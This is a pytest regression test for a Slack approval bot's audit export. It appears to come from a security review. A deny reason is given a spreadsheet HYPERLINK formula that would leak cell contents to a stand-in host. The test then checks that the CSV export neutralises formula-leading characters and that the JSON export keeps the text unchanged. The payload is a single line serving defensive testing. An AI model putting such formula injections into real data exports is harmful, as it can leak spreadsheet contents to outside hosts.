"""The second outside attack run's findings, each driven through the real endpoint."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

from tests.fakes.slack import FakeSlack, SlackDriver
from tests.flow.steps import OWNER
from tests.flow.test_approvals import APPROVER, decision_view, requested
from tests.harness import ROOT, RunningBot


def export(database_url: str, cwd: Path, *args: str) -> str:
    result = subprocess.run(
        [sys.executable, "-m", "bot", "audit", *args],
        cwd=cwd,
        env={**os.environ, "PYTHONPATH": str(ROOT), "DATABASE_URL": database_url},
        capture_output=True,
        text=True,
        timeout=60,
    )
    assert result.returncode == 0, result.stderr
    return result.stdout


def test_a_formula_typed_into_a_deny_reason_is_inert_in_csv_and_exact_in_json(
    make_bot: Callable[..., RunningBot],
    fake_slack: FakeSlack,
    env: dict[str, str],
    tmp_path: Path,
) -> None:
    bot = make_bot(APPROVERS=APPROVER)
    slack = SlackDriver(fake_slack, bot.url)
    requested(slack, fake_slack)
    reason = '=HYPERLINK("http://x.example/?leak="&A1,"y")'
    view = decision_view(slack, APPROVER, "Deny")
    slack.submit(view, {"Why are you denying it?": reason}, user=APPROVER)
    slack.wait_for_view_text(APPROVER, "You denied")

    rows = list(
        csv.DictReader(io.StringIO(export(env["DATABASE_URL"], tmp_path, "--format", "csv")))
    )
    details = [r["detail"] for r in rows if reason in r["detail"]]
    assert details, rows
    cells = [value for row in rows for value in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    lines = [json.loads(line) for line in export(env["DATABASE_URL"], tmp_path).splitlines()]
    assert any(line["detail"].startswith(reason) or reason in line["detail"] for line in lines)
    assert [r["connection"] for r in rows] == [str(line["connection"]) for line in lines]
    assert OWNER in {line["actor"] for line in lines}
